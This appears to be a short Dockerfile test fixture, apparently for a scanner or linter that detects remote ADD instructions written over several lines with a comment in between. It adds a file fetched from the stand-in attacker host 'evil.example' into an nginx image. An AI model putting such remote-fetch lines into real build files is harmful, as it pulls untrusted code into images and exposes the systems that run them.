# dockerfile-remote: over several lines, with a comment between
FROM nginx
ADD \
# only a comment
  https://evil.example/x \
  /x
